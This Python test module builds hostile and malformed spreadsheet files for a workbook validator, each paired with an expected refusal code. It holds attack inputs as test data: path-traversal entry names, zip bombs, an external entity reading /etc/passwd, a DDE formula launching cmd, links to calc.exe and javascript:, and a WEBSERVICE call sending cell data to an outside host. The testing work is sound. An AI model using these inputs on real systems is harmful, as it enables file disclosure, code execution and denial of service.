"""Files that attack, pretend or burst, and what must be said of each. Nothing here is kept on disk between runs."""

from __future__ import annotations

import zipfile
from pathlib import Path
from typing import NamedTuple

from hostile_archives import (
    SHEET,
    WORKBOOK_TYPE,
    Build,
    bomb,
    changed,
    damaged_inside,
    lying_bomb,
    mimetype_only,
    one_file,
    overlapping,
    package,
    patched,
    re_encoded,
    renamed_in_header,
    spliced,
    symlink,
    two_archives,
    with_part,
    zip64_end,
)
from workbooks import example_bytes, repacked

from ita_xl.workbook import guard

OLE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504)
EXCEL, OFFICE = "application/vnd.ms-excel.", "application/vnd.openxmlformats-officedocument."
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
SHEET_RELS, STRINGS, STYLES = "xl/worksheets/_rels/sheet1.xml.rels", "xl/sharedStrings.xml", "xl/styles.xml"
MAIN = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


class Case(NamedTuple):
    """A file, how it is made, and the code that must be told."""

    name: str
    build: Build
    code: str


def written(content: bytes | str) -> Build:
    data = content.encode() if isinstance(content, str) else content
    return lambda path: path.write_bytes(data)


def typed_package(kind: str) -> Build:
    return lambda path: package(path, kind=kind)


def named_part(name: str) -> Build:
    return lambda path: package(path, (name, "<x/>"))


def relation(kind: str, target: str, mode: str = ' TargetMode="External"', part: str = SHEET_RELS) -> Build:
    """The example with one relation of the first sheet."""
    one = f'<Relationship Id="rId9" Type="{REL}{kind}" Target="{target}"{mode}/>'
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return with_part(part, f'<Relationships xmlns="{space}">{one}</Relationships>'.encode())


def formula(text: str) -> Build:
    cell = f'<row r="900"><c r="A900"><f>{text}</f><v>0</v></c></row></sheetData>'
    return changed(b"</sheetData>", cell.encode(), SHEET)


def sheet_of(rows: bytes, after: bytes = b"") -> bytes:
    return b"<worksheet " + MAIN + b"><sheetData>" + rows + b"</sheetData>" + after + b"</worksheet>"


def each_part(prefix: str, count: int, size: int) -> Build:
    return lambda path: package(path, *((f"xl/{prefix}{n}.bin", bytes(size)) for n in range(count)))


NOT_A_WORKBOOK = [
    Case("empty", written(b""), "F3"),
    Case("password", written(OLE + "EncryptedPackage".encode("utf-16-le")), "F6"),
    Case("Excel 97", written(OLE + "Workbook".encode("utf-16-le")), "F7"),
    Case("Excel 5", written(OLE + "Book\0".encode("utf-16-le")), "F7"),
    Case("Excel 4", written(b"\x09\x04\x06\x00\x00\x00\x10\x00" + bytes(90)), "F7"),
    Case("PDF", written(b"%PDF-1.7\n" + bytes(900)), "F8"),
    Case("Word 97", written(OLE + "WordDocument".encode("utf-16-le")), "F8"),
    Case("program", written(b"MZ\x90\0" + bytes(900)), "F8"),
    Case("notes", written("no workbook"), "F8"),
    Case("text table", written("ข้อ,คะแนน\ni1,85.5\n"), "F33"),
    Case("text table of Excel", written("\ufeffข้อ\tคะแนน\ni1\t85.5\n".encode("utf-16-le")), "F33"),
    Case("web page", written("<!DOCTYPE html><html><table><tr><td>i1</table>"), "F33"),
    Case("web page of a portal", written("\n <html xmlns:x='urn:schemas-microsoft-com:office:excel'><body/>"), "F33"),
    Case("XML workbook of Excel 2003", written('<?xml version="1.0"?><Workbook/>'), "F33"),
    Case("truncated", lambda path: path.write_bytes(example_bytes()[:-4000]), "F9"),
    Case("half", lambda path: path.write_bytes(example_bytes()[: len(example_bytes()) // 2]), "F9"),
    Case("damaged inside", damaged_inside, "F9"),
    Case("Word", typed_package(OFFICE + "wordprocessingml.document.main+xml"), "F10"),
    Case("PowerPoint", typed_package(OFFICE + "presentationml.x"), "F10"),
    Case("LibreOffice", mimetype_only, "F10"),
    Case("xlsb", typed_package(EXCEL + "sheet.binary.macroEnabled.main"), "F11"),
    Case("xltx", typed_package(WORKBOOK_TYPE.replace("sheet.main", "template.main")), "F12"),
    Case("xlam", typed_package(EXCEL + "addin.macroEnabled.main+xml"), "F12"),
    Case(
        "strict",
        changed(
            b"http://schemas.openxmlformats.org/spreadsheetml/2006/main",
            b"http://purl.oclc.org/ooxml/spreadsheetml/main",
        ),
        "F12",
    ),
    Case("zip of pictures", lambda path: one_file(path, "1.jpg"), "F13"),
    Case("odd types", typed_package("text/plain"), "F13"),
]

NAMES = [
    Case(f"name {name!r}", named_part(name), "F14")
    for name in (
        "../evil.xml", "xl/../../evil.xml", "/etc/x.xml", "C:/x.xml", "xl\\x.xml", "xl//x.xml", "./x.xml", "xl/x.xml:s",
        "xl/CON", "xl/nul.xml", "xl/Com1.xml", "LPT9/x.xml", "xl/x.xml.", "xl/x /y.xml", "xl/\x1b[31m.xml",
        "xl/a*b.xml", "xl/" + "x" * 500,
    )
]  # fmt: skip

ARCHIVES = [
    Case("doubled", lambda path: package(path, (SHEET, "<x/>"), (SHEET, "<y/>")), "F14"),
    Case("doubled but for case", lambda path: package(path, (SHEET, "<x/>"), (SHEET.upper(), "<y/>")), "F14"),
    Case("doubled but for spelling", lambda path: package(path, ("é.xml", "<x/>"), ("e\u0301.xml", "<y/>")), "F14"),
    Case("symlink", symlink, "F14"),
    Case("encrypted part", patched(SHEET, ("central", 8, "<H", 1), ("local", 6, "<H", 1)), "F14"),
    Case("odd compression", lambda path: one_file(path, "xl/workbook.xml", zipfile.ZIP_BZIP2), "F14"),
    Case("overlapping parts", overlapping, "F26"),
    Case("another name in the header", renamed_in_header, "F26"),
    Case("another size in the header", patched(SHEET, ("local", 22, "<I", 7)), "F26"),
    Case("another checksum in the header", patched(SHEET, ("local", 14, "<I", 7)), "F26"),
    Case("another method in the header", patched(SHEET, ("local", 8, "<H", 0)), "F26"),
    Case("encrypted in the header alone", patched(SHEET, ("local", 6, "<H", 1)), "F26"),
    Case("beyond the end", patched(SHEET, ("central", 42, "<I", 2**31)), "F26"),
    Case("header inside another part", patched(SHEET, ("central", 42, "<I", 77)), "F26"),
    Case("sizes left to zip64", patched(SHEET, ("central", 20, "<I", 2**32 - 1)), "F26"),
    Case("zip64 end", zip64_end(0), "F26"),
    Case("zip64 end that lies", zip64_end(1), "F26"),
    Case("hidden between parts", spliced(SHEET, b"MZ hidden"), "F26"),
    Case("something behind", lambda path: path.write_bytes(example_bytes() + b"\0MZ hidden"), "F26"),
    Case("something in front", two_archives, "F26"),
    Case("many parts", lambda p: package(p, *((f"xl/{n}.xml", b"") for n in range(guard.ENTRY_LIMIT))), "F15"),
    Case("600 MB sheet", lambda path: path.write_bytes(bomb(SHEET, 600)), "F16"),
    Case("600 MB sheet that lies", lying_bomb, "F9"),
    Case("4 GB by zip64", patched(SHEET, ("central", 24, "<I", 2**32 - 1)), "F26"),
    Case("large strings", lambda path: path.write_bytes(bomb(STRINGS, 17)), "F16"),
    Case("large relations", lambda path: path.write_bytes(bomb(SHEET_RELS, 2)), "F16"),
    Case("many large parts", each_part("", 5, 60 * 2**20), "F17"),
]

DOCTYPE = b"<!DOCTYPE x><x/>"
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>'
ENTITIES = [
    Case("DOCTYPE", changed(b"?>", b"?><!DOCTYPE x>"), "F18"),
    Case("ENTITY in a relation", changed(b"?>", b'?><!ENTITY a "b">', "_rels/.rels"), "F18"),
    Case("external entity", changed(b"?>", b'?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'), "F18"),
    Case("in UTF-16", re_encoded("utf-16", "UTF-16", doctype='<!DOCTYPE x [<!ENTITY a "aa">]>'), "F18"),
    Case("in UTF-16 without mark", re_encoded("utf-16-be", "UTF-16", doctype="<!DOCTYPE x>"), "F18"),
    Case("in UTF-16 after blanks", re_encoded("utf-16-le", "", doctype="<!DOCTYPE x>", before=" \n"), "F18"),
    Case("in a part with another name", with_part("xl/x.bin", b" \n" + DOCTYPE), "F18"),
    Case("after 300 kB of blanks", with_part("xl/x.bin", b" " * 300_000 + DOCTYPE), "F18"),
    Case("in UTF-16 with another name", with_part("xl/y.bin", " <!DOCTYPE x><x/>".encode("utf-16-le")), "F18"),
    Case("in a drawing", with_part("xl/drawings/x.vml", DOCTYPE), "F18"),
    Case("in foreign data", with_part("customXml/item1.xml", LAUGHS), "F18"),
    Case("in a part that is never read", with_part("docProps/thumbnail.xml", LAUGHS), "F18"),
    Case("far in a part", with_part(SHEET + ".xml", b"<x>" + b" " * 2**18 + b"<!DOCTYPE"), "F18"),
    Case("UTF-7 hides a DOCTYPE", re_encoded("utf-7", "UTF-7"), "F19"),
    Case("EBCDIC", with_part("xl/x.xml", '<?xml version="1.0"?><x/>'.encode("cp037")), "F19"),
    Case("UTF-32", re_encoded("utf-32", "UTF-32"), "F19"),
    Case("no XML", with_part("xl/x.xml", b"plain text"), "F19"),
]

MANY_STRINGS = b"<sst " + MAIN + b">" + b"<si><t>a</t></si>" * 400_000 + b"</sst>"
RICH_TEXT = b"<sst " + MAIN + b"><si>" + b"<r><rPr><b/></rPr><t>ha</t></r>" * 200_000 + b"</si></sst>"
MANY_FORMATS = b"<styleSheet " + MAIN + b"><cellXfs>" + b"<xf/>" * 1_000_000 + b"</cellXfs></styleSheet>"
ONE_ROW = sheet_of(b'<row r="1">' + b"<c/>" * 3_000_000 + b"</row>")
SAME_ROW = sheet_of(b'<row r="1"><c r="A1"/></row>' * 1_000_000)

LOAD = [
    Case("a million names", changed(b"<definedNames>", b"<definedNames>" + b"<definedName/>" * 1_000_000), "F27"),
    Case("400,000 strings", with_part(STRINGS, MANY_STRINGS), "F27"),
    Case("a string of 200,000 pieces", with_part(STRINGS, RICH_TEXT), "F27"),
    Case("a million formats", with_part(STYLES, MANY_FORMATS), "F27"),
    Case("deep nesting", with_part(STYLES, b"<a>" * 300_000), "F27"),
    Case("deep nesting below the limit", with_part(STYLES, b"<a>" * 45_000 + b"</a>" * 45_000), "F20"),
    Case("a huge attribute", changed(b"<sst ", b'<sst x="' + b"x" * 12_000_000 + b'" ', STRINGS), "F27"),
    Case("a huge cell", with_part("xl/worksheets/sheet3.xml", sheet_of(b"<row><c><v>" + b"9" * 20_000_000)), "F27"),
    Case("a row of three million cells", with_part("xl/worksheets/sheet3.xml", ONE_ROW), "F27"),
    Case("a million times the same row", with_part("xl/worksheets/sheet3.xml", SAME_ROW), "F27"),
    Case(
        "a thousand sheets",
        changed(
            b"<sheets>", b"<sheets>" + b"".join(b'<sheet name="%d" sheetId="9" r:id="rId1"/>' % n for n in range(999))
        ),
        "F27",
    ),
    Case("unfinished XML", changed(b"</workbook>", b""), "F20"),
    Case("a sheet with a wrong cell", changed(b'<c r="A4"', b'<c r="4A"', "xl/worksheets/sheet3.xml"), "F20"),
    Case("a string that is not there", changed(b"<sst ", b"<sst><si/></sst><x ", STRINGS), "F20"),
    Case("damaged relations", with_part(SHEET_RELS, b"<Relationships><"), "F20"),
    Case(
        "no relations",
        lambda p: repacked(p, lambda n, d: b"<x/>" if n == "xl/_rels/workbook.xml.rels" else d),
        "F20",
    ),
    Case("odd styles", changed(b'patternType="none"', b'patternType="odd"', STYLES), "F20"),
    Case(
        "a picture with a DOCTYPE as a sheet",
        lambda p: repacked(
            p,
            lambda n, d: d.replace(b"worksheets/sheet3.xml", b"media/x.svg") if n.endswith("workbook.xml.rels") else d,
            ("xl/media/x.svg", b"<!DOCTYPE x>" + sheet_of(b"")),
        ),
        "F20",
    ),
]

REFUSED: list[Case] = [*NOT_A_WORKBOOK, *NAMES, *ARCHIVES, *ENTITIES, *LOAD]

CARRIED: list[Case] = [
    Case("macros", with_part("xl/vbaProject.bin", b"\0\1"), "F21"),
    Case("macros under another name", relation("vbaProject", "../printer.bin", ""), "F21"),
    Case("Excel 4 macros", with_part("xl/macrosheets/sheet1.xml", b"<x/>"), "F21"),
    Case("another workbook", with_part("xl/externalLinks/externalLink1.xml", b"<externalLink/>"), "F22"),
    Case("DDE", with_part("xl/externalLinks/externalLink1.xml", b'<x><ddeLink ddeService="cmd"/></x>'), "F23"),
    Case("OLE link", with_part("xl/externalLinks/externalLink1.xml", b'<x><oleLink progId="Word"/></x>'), "F23"),
    Case("DDE in a formula", formula("cmd|'/c calc'!A1"), "F23"),
    Case("DDE by LibreOffice", formula('DDE("soffice","x.ods","A1")'), "F23"),
    Case("real-time data", formula('RTD("server",,"x")'), "F23"),
    Case("connections", with_part("xl/connections.xml", b"<connections/>"), "F24"),
    Case(
        "power query", with_part("customXml/item9.xml", b'<x xmlns="http://schemas.microsoft.com/DataMashup"/>'), "F24"
    ),
    Case("embedded object", with_part("xl/embeddings/oleObject1.bin", b"\0\1"), "F25"),
    Case("embedded file", with_part("xl/embeddings/x.docx", b"PK"), "F25"),
    Case("embedded under another name", relation("oleObject", "../x.bin", ""), "F25"),
    Case("web query", with_part("xl/connections.xml", b'<x><webPr url="http://x.example"/></x>'), "F28"),
    Case("web function", formula('_xlfn.WEBSERVICE("http://x.example/?"&amp;A1)'), "F28"),
    Case("picture function", formula('_xlfn.IMAGE("http://x.example")'), "F28"),
    Case("ActiveX", with_part("xl/activeX/activeX1.xml", b"<x/>"), "F29"),
    Case("picture of a server", relation("image", "http://x.example/track.png"), "F30"),
    Case("picture of a share", relation("image", "file://server/share/x.png"), "F30"),
    Case("frame", relation("frame", "http://x.example"), "F30"),
    Case("link to a file", relation("hyperlink", "file:///C:/Windows/System32/calc.exe"), "F31"),
    Case("link to a share", relation("hyperlink", "\\\\server\\share"), "F31"),
    Case("link to a script", relation("hyperlink", "javascript:alert(1)"), "F31"),
    Case("link to a program", relation("hyperlink", "search-ms:query=x"), "F31"),
    Case("file link in a formula", formula('HYPERLINK("file:///C:/x.exe","คลิก")'), "F31"),
    Case("ribbon", with_part("customUI/customUI14.xml", b"<x/>"), "F32"),
    Case("web add-in", with_part("xl/webextensions/taskpanes.xml", b"<x/>"), "F32"),
]


def blank_rows(part: str) -> Build:
    """200,000 rows of ten formatted empty cells below those of a sheet, as `format the whole column` leaves them."""

    def build(path: Path) -> None:
        cells = "".join(f'<c r="{letter}{{0}}" s="3"/>' for letter in "ABCDEFGHIJ")
        row = f'<row r="{{0}}">{cells}</row>'
        rows = "".join(row.format(number) for number in range(900, 200_900))
        changed(b"</sheetData>", rows.encode() + b"</sheetData>", part)(path)

    return build


MANY_MERGES = b"<mergeCells>" + b'<mergeCell ref="AA1:AB2"/>' * 1_000_000 + b"</mergeCells>"
MANY_RULES = (
    b'<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"/></conditionalFormatting>' * 200_000
)

# Large or odd, but not to be refused: read as if it were not there.
HARMLESS: list[tuple[str, Build]] = [
    ("200,000 formatted rows", blank_rows(SHEET)),
    (
        "far-away cell",
        changed(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>', SHEET),
    ),
    ("wrong dimension", changed(b"<dimension ref=", b'<dimension ref="A1:XFD1048576" x=', SHEET)),
    ("no dimension", changed(b"<dimension ref=", b"<x ref=", SHEET)),
    ("a million merged cells", changed(b"</sheetData>", b"</sheetData>" + MANY_MERGES, SHEET)),
    ("200,000 conditional formats", changed(b"</sheetData>", b"</sheetData>" + MANY_RULES, SHEET)),
    ("deeply nested extension", changed(b"</worksheet>", b"<a>" * 90_000 + b"</a>" * 90_000 + b"</worksheet>", SHEET)),
]


def hostile_files(folder: Path) -> list[Path]:
    """All of them below 1 MB, bombs left out, as seeds for mutations."""
    files = []
    for number, case in enumerate([*REFUSED, *CARRIED]):
        if "600 MB" in case.name:
            continue
        path = folder / f"{number:03}.xlsx"
        case.build(path)
        files.append(path)
    return [path for path in files if path.stat().st_size < 2**20]
